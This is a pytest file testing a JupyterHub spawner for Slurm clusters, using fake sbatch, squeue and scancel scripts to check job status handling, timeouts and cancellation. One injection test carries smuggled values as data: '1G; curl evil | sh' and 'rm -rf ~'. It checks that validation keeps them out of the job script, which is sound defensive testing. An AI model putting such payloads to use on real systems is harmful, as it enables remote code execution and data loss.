"""The spawner against fake Slurm commands (shell scripts): a fast check of its decisions, in addition to the
end-to-end Molecule runs against a real Slurm."""

from __future__ import annotations

import asyncio
import os
import pwd
import socket
import stat
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from batchspawner.batchspawner import JobStatus

from jupyterhub_hpc.spawner import HPCSlurmSpawner, JobEndedEarly

CLUSTER = {
    "name": "demo",
    "max_walltime": "7d",
    "account_prefixes": ["def-"],
    "node_types": {"cpu": {"cores": 4, "memory": 8000}},
    "form": {
        "time": {"min": 0.5, "default": 1, "max": 8},
        "cores": {"min": 1, "default": 1, "max": 4},
        "memory": {"min": 256, "default": 512, "max": 8000},
    },
}


def fake(tmp_path: Path, name: str, body: str) -> str:
    script = tmp_path / name
    script.write_text(f"#!/bin/sh\n{body}\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return str(script)


def free_port() -> int:
    """A port nothing listens on (bound, read, released)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def spawner(tmp_path: Path, **config: Any) -> HPCSlurmSpawner:
    # The spawner looks the user up in the password database: use the account running the tests.
    name = pwd.getpwuid(os.getuid()).pw_name
    user = SimpleNamespace(name=name, url=f"/user/{name}/", escaped_name=name, id=1)
    hub = SimpleNamespace(
        public_host="", api_url="http://hub:8081/hub/api", base_url="/hub/", url="http://hub:8081/hub/", host=""
    )
    s = HPCSlurmSpawner(
        user=user,
        hub=hub,
        cluster=CLUSTER,
        exec_prefix="",
        accounts_cmd=fake(tmp_path, "sacctmgr", "echo def-alice"),
        req_homedir=str(tmp_path),
        req_keepvars="PATH",
        **{"job_board_cmd": "", "job_ledger_file": str(tmp_path / "jobs.json"), **config},
    )
    return s


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        ("echo 'RUNNING node1'", JobStatus.RUNNING),
        ("echo 'PENDING (Resources)'", JobStatus.PENDING),
        ("true", JobStatus.NOTFOUND),  # an empty answer: the job is gone
        ("echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1", JobStatus.NOTFOUND),
        ("echo 'slurm_load_jobs error: Unable to contact slurm controller' >&2; exit 1", JobStatus.UNKNOWN),
        ("echo 'sudo: unable to resolve host' >&2; exit 1", JobStatus.UNKNOWN),
    ],
)
def test_only_slurm_saying_so_means_the_job_is_gone(tmp_path: Path, answer: str, status: JobStatus) -> None:
    s = spawner(tmp_path, batch_query_cmd=fake(tmp_path, "squeue", answer) + " {job_id}")
    s.job_id = "42"
    assert asyncio.run(s.query_job_status()) == status


def test_slurm_refusal_is_reported_in_slurms_words(tmp_path: Path) -> None:
    sbatch = fake(tmp_path, "sbatch", "cat >/dev/null; echo 'sbatch: error: Invalid account' >&2; exit 1")
    s = spawner(tmp_path, batch_submit_cmd=sbatch)

    async def submit() -> None:
        await s.apply_options({"account": "def-alice"})
        await s.submit_batch_script()

    with pytest.raises(RuntimeError) as err:
        asyncio.run(submit())
    assert str(err.value) == "Slurm refused the job: sbatch: error: Invalid account"


def test_only_validated_values_reach_the_job_script(tmp_path: Path) -> None:
    captured = tmp_path / "script.sh"
    sbatch = fake(tmp_path, "sbatch", f"cat >{captured}; echo 7")
    s = spawner(tmp_path, batch_submit_cmd=sbatch, batch_script="#SBATCH --mem={memory}\n{prologue}\n{cmd}\n")
    # What a crafted API request might carry, next to valid values, once validation has passed.
    s.user_options = {"memory": "1G; curl evil | sh", "prologue": "rm -rf ~"}

    async def submit() -> Any:
        await s.apply_options({"account": "def-alice", "memory": "1024"})
        return await s.submit_batch_script()

    assert asyncio.run(submit()) == "7"
    script = captured.read_text()
    assert "#SBATCH --mem=1024M" in script
    assert "evil" not in script and "rm -rf" not in script


def test_one_squeue_answers_every_pending_spawn(tmp_path: Path) -> None:
    calls = tmp_path / "calls"
    board = fake(tmp_path, "squeue-all", f"echo \"$1\" >>{calls}; echo '7 RUNNING node1'; echo '8 PENDING n/a'")
    per_job = fake(tmp_path, "squeue", "echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1")
    spawners = []
    for job_id in ["7", "8", "9"] * 10:  # 30 spawns asking at once
        s = spawner(
            tmp_path, job_board_cmd=board + " {job_ids}", job_board_interval=0.2, batch_query_cmd=per_job + " {job_id}"
        )
        s.job_id = job_id
        spawners.append(s)

    async def ask_all() -> list[JobStatus]:
        return list(await asyncio.gather(*(s.query_job_status() for s in spawners)))

    statuses = asyncio.run(ask_all())
    assert statuses == [JobStatus.RUNNING, JobStatus.PENDING, JobStatus.NOTFOUND] * 10
    assert calls.read_text().splitlines() == ["7,8,9"]  # one query for all; 9 confirmed gone by its own query


def test_a_board_without_answer_keeps_the_job(tmp_path: Path) -> None:
    board = fake(tmp_path, "squeue-all", "echo 'slurm_load_jobs error: Unable to contact slurm controller' >&2; exit 1")
    s = spawner(tmp_path, job_board_cmd=board + " {job_ids}", batch_query_cmd="false {job_id}")
    s.job_id = "7"
    assert asyncio.run(s.query_job_status()) == JobStatus.UNKNOWN


def recording_scancel(tmp_path: Path, cancelled: Path) -> str:
    """A batch_cancel_cmd whose scancel appends the job id to ``cancelled``."""
    return fake(tmp_path, "scancel", f"echo $1 >>{cancelled}") + " {job_id}"


def pending_job_spawner(tmp_path: Path, cancelled: Path, **config: Any) -> HPCSlurmSpawner:
    """sbatch answers job 7, which stays pending; scancel appends the job id to ``cancelled``."""
    return spawner(
        tmp_path,
        batch_submit_cmd=fake(tmp_path, "sbatch", "cat >/dev/null; echo 7"),
        job_board_cmd=fake(tmp_path, "squeue-all", "echo '7 PENDING n/a'") + " {job_ids}",
        job_board_interval=0.1,
        batch_cancel_cmd=recording_scancel(tmp_path, cancelled),
        job_watch_interval=0.2,
        **config,
    )


def test_a_job_still_pending_at_the_timeout_is_cancelled_and_explained(tmp_path: Path) -> None:
    cancelled = tmp_path / "cancelled"
    s = pending_job_spawner(
        tmp_path,
        cancelled,
        pending_reason_cmd=fake(tmp_path, "squeue-reason", "echo Resources") + " {job_id}",
        pending_timeout=1.0,
    )

    async def start() -> Any:
        await s.apply_options({"account": "def-alice"})
        return await s.start()

    with pytest.raises(RuntimeError) as err:
        asyncio.run(start())
    message = str(err.value)
    assert message.startswith("Timeout. Your job 7 was still waiting in the Slurm queue after 1 seconds")
    assert "(Slurm's reason: Resources), so it was cancelled." in message
    assert "ask only for what you need" in message
    assert cancelled.read_text().strip() == "7"
    assert s.job_id == ""


def test_start_returns_once_the_server_accepts_connections(tmp_path: Path) -> None:
    """JupyterHub's own check backs off exponentially; the spawner's fixed short poll sees the server first."""
    s = spawner(tmp_path, port_poll_interval=0.05, http_timeout=30)

    async def server_later() -> bool:
        port = free_port()

        async def serve() -> asyncio.Server:
            await asyncio.sleep(0.3)  # the job reported its port; the server is still importing
            return await asyncio.start_server(lambda _r, w: w.close(), "127.0.0.1", port)

        server_task = asyncio.ensure_future(serve())
        ready = await s.wait_for_port("127.0.0.1", port)
        (await server_task).close()
        return ready

    assert asyncio.run(server_later()) is True


def test_a_server_that_never_listens_is_left_to_the_hubs_check(tmp_path: Path) -> None:
    s = spawner(tmp_path, port_poll_interval=0.05, http_timeout=1)
    port = free_port()
    assert asyncio.run(s.wait_for_port("127.0.0.1", port)) is False
    assert asyncio.run(spawner(tmp_path, port_poll_interval=0).wait_for_port("127.0.0.1", port)) is False


def test_a_job_that_ends_after_reporting_its_port_fails_the_wait(tmp_path: Path) -> None:
    gone = fake(tmp_path, "squeue", "echo 'slurm_load_jobs error: Invalid job id specified' >&2; exit 1")
    s = spawner(tmp_path, port_poll_interval=0.05, http_timeout=30, job_watch_interval=0.2, batch_query_cmd=gone)
    s.job_id = "7"
    port = free_port()
    with pytest.raises(JobEndedEarly):
        asyncio.run(s.wait_for_port("127.0.0.1", port))


def test_an_interrupted_start_leaves_no_job_behind(tmp_path: Path) -> None:
    """The user's Cancel while the job is pending (JupyterHub cancels start()): the job is scancel'ed even when a
    query failed at that moment and batchspawner forgot the job id."""
    cancelled = tmp_path / "cancelled"
    s = pending_job_spawner(tmp_path, cancelled)

    async def start_then_cancel() -> None:
        await s.apply_options({"account": "def-alice"})
        starting = asyncio.ensure_future(s.start())
        await asyncio.sleep(1)
        s.clear_state()  # what batchspawner does when a query fails during the interruption
        starting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await starting

    asyncio.run(start_then_cancel())
    assert cancelled.read_text().split() == ["7"]


def test_the_hubs_own_queries_start_with_the_one_squeue_setting() -> None:
    s = HPCSlurmSpawner(squeue="/opt/slurm/bin/squeue")
    assert s.job_board_cmd == "/opt/slurm/bin/squeue --noheader --jobs={job_ids} --format='%i %T %B'"
    assert s.pending_reason_cmd == "/opt/slurm/bin/squeue --noheader --jobs={job_id} --format=%r"
    assert s.lost_jobs_cmd == "/opt/slurm/bin/squeue --noheader --user={username} --name=jupyterhub --format=%i"
    assert HPCSlurmSpawner().job_board_cmd.startswith("/usr/bin/squeue ")
    assert HPCSlurmSpawner(squeue="x", job_board_cmd="").job_board_cmd == ""  # set: no board


def test_the_default_output_tail_is_the_packages_own_script() -> None:
    tail = HPCSlurmSpawner().output_tail_cmd
    assert tail.startswith("/usr/bin/python3 -I -S /") and tail.endswith(
        "/jupyterhub_hpc/job_tail.py {max_bytes} {path}"
    )
    assert Path(tail.split()[3]).is_file()
